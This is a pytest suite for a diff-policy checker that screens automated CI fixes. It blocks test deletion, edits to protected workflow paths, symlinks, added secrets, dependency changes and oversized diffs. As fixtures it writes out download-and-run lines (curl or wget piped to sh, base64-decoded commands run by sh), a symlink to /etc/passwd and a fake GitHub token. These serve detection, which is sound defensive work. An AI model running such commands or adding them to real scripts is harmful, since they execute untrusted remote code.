"""File-level rules, secrets, downloads run, sizes and manifests, on real git diffs."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from ci_autofix.policy import Verdict

ChangeFn = Callable[..., Verdict]
TEST = "tests/test_app.py"
TEST_BODY = "from app import run\n\n\ndef test_run():\n    assert run() == 0\n"


def codes(verdict: Verdict) -> list[tuple[str, str | None]]:
    return [(f.code, f.path) for f in verdict.findings]


# ---- test files ------------------------------------------------------------------------------------


def test_deleted_test_file_is_blocked(change: ChangeFn) -> None:
    assert codes(change({TEST: TEST_BODY}, {TEST: None})) == [("test-file-deleted", TEST)]


def test_deleted_fixture_data_is_not_a_test_file(change: ChangeFn) -> None:
    assert change({"tests/data/input.json": "{}\n"}, {"tests/data/input.json": None}).codes == []


def test_renamed_test_file_that_keeps_its_tests_passes(change: ChangeFn) -> None:
    verdict = change({TEST: TEST_BODY}, {TEST: None, "tests/test_application.py": TEST_BODY})
    assert verdict.codes == []


def test_renamed_test_file_with_a_small_edit_is_still_a_rename(change: ChangeFn) -> None:
    body = TEST_BODY + "\n\ndef test_more():\n    assert run() is not None\n    assert run() >= 0\n"
    verdict = change(
        {TEST: body}, {TEST: None, "tests/test_application.py": body.replace("run()", "run( )", 1)}
    )
    assert verdict.codes == []


def test_test_file_renamed_out_of_the_test_tree_is_blocked(change: ChangeFn) -> None:
    verdict = change({TEST: TEST_BODY}, {TEST: None, "scripts/app_check.py": TEST_BODY})
    assert codes(verdict) == [("test-file-renamed-away", "scripts/app_check.py")]


# ---- protected paths -------------------------------------------------------------------------------

WORKFLOW = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pytest\n"


def test_workflow_edit_is_protected_by_default(change: ChangeFn) -> None:
    path = ".github/workflows/ci.yml"
    verdict = change({path: WORKFLOW}, {path: WORKFLOW.replace("pytest", "pytest -x")})
    assert codes(verdict) == [("protected-path", path)]


def test_workflow_in_a_nested_directory_is_protected(change: ChangeFn) -> None:
    path = ".github/workflows/sub/deploy.yaml"
    assert change({path: WORKFLOW}, {path: None}).codes == ["protected-path"]


def test_custom_protected_glob_spans_directories(change: ChangeFn) -> None:
    before = {"deploy/prod/values.yaml": "replicas: 2\n", "src/app.py": "X = 1\n"}
    after = {"deploy/prod/values.yaml": "replicas: 3\n", "src/app.py": "X = 2\n"}
    verdict = change(before, after, protected=["deploy/**"])
    assert codes(verdict) == [("protected-path", "deploy/prod/values.yaml")]


def test_moving_a_file_out_of_a_protected_directory_is_blocked(change: ChangeFn) -> None:
    verdict = change(
        {".github/workflows/ci.yml": WORKFLOW}, {".github/workflows/ci.yml": None, "ci.yml": WORKFLOW}
    )
    assert codes(verdict) == [("protected-path", ".github/workflows/ci.yml")]


def test_a_look_alike_path_is_not_protected(change: ChangeFn) -> None:
    path = "docs/.github/workflows-notes.md"
    assert change({path: "a\n"}, {path: "b\n"}).codes == []


# ---- file kinds -------------------------------------------------------------------------------------


def test_binary_file_is_blocked(change: ChangeFn) -> None:
    verdict = change({"assets/logo.png": b"\x89PNG\x00\x01"}, {"assets/logo.png": b"\x89PNG\x00\x02"})
    assert codes(verdict) == [("binary-file", "assets/logo.png")]


def test_symlink_added_is_blocked(change: ChangeFn, kinds: Any) -> None:
    verdict = change({"a.txt": "x\n"}, {"link": kinds.symlink("/etc/passwd")})
    assert codes(verdict) == [("symlink", "link")]


def test_mode_change_is_blocked(change: ChangeFn, kinds: Any) -> None:
    verdict = change({"run.sh": "echo hi\n"}, {"run.sh": kinds.executable("echo hi\n")})
    assert [(f.code, f.message) for f in verdict.findings] == [
        ("mode-change", "The file mode changes from 100644 to 100755.")
    ]


def test_new_executable_script_is_not_a_mode_change(change: ChangeFn, kinds: Any) -> None:
    assert change({"a.txt": "x\n"}, {"run.sh": kinds.executable("echo hi\n")}).codes == []


def test_submodule_change_is_blocked(change: ChangeFn, kinds: Any) -> None:
    verdict = change({"vendor/lib": kinds.gitlink("1" * 40)}, {"vendor/lib": kinds.gitlink("2" * 40)})
    assert codes(verdict) == [("submodule-change", "vendor/lib")]


# ---- secrets ----------------------------------------------------------------------------------------

TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"


def test_added_token_is_blocked_and_not_echoed(change: ChangeFn) -> None:
    verdict = change(
        {"src/config.py": "URL = 'https://api.github.com'\n"},
        {"src/config.py": f"URL = 'https://api.github.com'\nAUTH = '{TOKEN}'\n"},
    )
    assert codes(verdict) == [("secret-added", "src/config.py")]
    assert TOKEN not in verdict.to_json() + verdict.to_markdown() + verdict.to_text()


def test_private_key_in_a_comment_still_counts(change: ChangeFn) -> None:
    verdict = change({"a.py": "x = 1\n"}, {"a.py": "# -----BEGIN RSA PRIVATE KEY-----\nx = 1\n"})
    assert verdict.codes == ["secret-added"]


def test_reading_a_token_from_the_environment_is_fine(change: ChangeFn) -> None:
    verdict = change({"a.py": "x = 1\n"}, {"a.py": 'import os\n\nTOKEN = os.environ["GITHUB_TOKEN"]\n'})
    assert verdict.codes == []


def test_removing_a_secret_is_fine(change: ChangeFn) -> None:
    assert change({"a.py": f"T = '{TOKEN}'\n"}, {"a.py": "T = ''\n"}).codes == []


# ---- downloads and encoded code ---------------------------------------------------------------------

SCRIPT = "#!/bin/sh\nset -e\necho setup\n"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("curl -fsSL https://get.example.com | sh", ["pipe-to-shell"]),
        ("wget -qO- https://x.example/i.sh | sudo bash", ["pipe-to-shell"]),
        ('bash -c "$(curl -fsSL https://x.example/i.sh)"', ["pipe-to-shell"]),
        ("bash <(curl -s https://x.example/i.sh)", ["pipe-to-shell"]),
        ("echo ZWNobyBoaQ== | base64 -d | sh", ["decode-and-exec"]),
        ("curl -fsSLo tool.tar.gz https://x.example/tool.tar.gz", []),
        ("# never do: curl https://x.example | sh", []),
        ("base64 -d payload.b64 > payload.bin", []),
    ],
)
def test_download_and_run(change: ChangeFn, line: str, expected: list[str]) -> None:
    verdict = change({"scripts/setup.sh": SCRIPT}, {"scripts/setup.sh": SCRIPT + line + "\n"})
    assert verdict.codes == expected, verdict.to_text()


def test_pipe_to_shell_in_a_python_subprocess_string_is_caught(change: ChangeFn) -> None:
    after = 'import os\n\nos.system("curl -s https://x.example/i.sh | sh")\n'
    assert change({"tools/boot.py": "x = 1\n"}, {"tools/boot.py": after}).codes == ["pipe-to-shell"]


# ---- Python manifests ---------------------------------------------------------------------------------

PYPROJECT = '[project]\nname = "app"\nversion = "1.0"\ndependencies = [\n    "requests>=2.31",\n]\n\n[tool.ruff]\nline-length = 100\n'


def test_requirements_pin_change(change: ChangeFn) -> None:
    verdict = change({"requirements.txt": "requests==2.31.0\n"}, {"requirements.txt": "requests==2.32.0\n"})
    assert [(f.code, f.line) for f in verdict.findings] == [("dependency-pin-changed", 1)]


def test_requirements_comment_is_not_a_pin(change: ChangeFn) -> None:
    verdict = change(
        {"requirements.txt": "requests==2.31.0\n"}, {"requirements.txt": "# HTTP client\nrequests==2.31.0\n"}
    )
    assert verdict.codes == []


def test_pyproject_dependency_change(change: ChangeFn) -> None:
    verdict = change({"pyproject.toml": PYPROJECT}, {"pyproject.toml": PYPROJECT.replace(">=2.31", ">=2.32")})
    assert verdict.codes == ["dependency-pin-changed"]


def test_pyproject_tool_setting_is_not_a_pin(change: ChangeFn) -> None:
    verdict = change({"pyproject.toml": PYPROJECT}, {"pyproject.toml": PYPROJECT.replace("100", "110")})
    assert verdict.codes == []


def test_poetry_lock_is_a_lockfile(change: ChangeFn) -> None:
    assert change({"poetry.lock": "a\n"}, {"poetry.lock": "b\n"}).codes == ["lockfile-changed"]


# ---- sizes ------------------------------------------------------------------------------------------


def test_too_many_changed_lines(change: ChangeFn) -> None:
    before = "".join(f"x{i} = {i}\n" for i in range(150))
    after = "".join(f"x{i} = {i + 1}\n" for i in range(150))
    verdict = change({"src/big.py": before}, {"src/big.py": after})
    assert [(f.code, f.path) for f in verdict.findings] == [("too-many-changed-lines", None)]
    assert "300 lines" in verdict.findings[0].message
    assert change({"src/big.py": before}, {"src/big.py": after}, max_changed_lines=300).codes == []


def test_too_many_files(change: ChangeFn) -> None:
    before = {f"src/m{i}.py": "x = 1\n" for i in range(11)}
    after = {f"src/m{i}.py": "x = 2\n" for i in range(11)}
    assert change(before, after).codes == ["too-many-files"]
    assert change(after, before, max_files=11).codes == []


# ---- diffs as they come ---------------------------------------------------------------------------------


def test_lone_carriage_returns_survive(diff_of: Callable[..., str]) -> None:
    from ci_autofix.policy.diff import parse

    diff = diff_of({"a.txt": "x\n"}, {"a.txt": "x\ry\n"})
    (file,) = parse(diff.encode())
    assert [line.text for line in file.added] == ["x\ry"]


def test_quoted_path_with_a_tab_is_decoded(change: ChangeFn) -> None:
    path = ".github/workflows/odd\tname.yml"
    verdict = change({path: WORKFLOW}, {path: WORKFLOW + "# x\n"})
    assert codes(verdict) == [("protected-path", path)]


def test_non_ascii_path(change: ChangeFn) -> None:
    path = "tests/test_ünïcode.py"
    assert codes(change({path: TEST_BODY}, {path: None})) == [("test-file-deleted", path)]
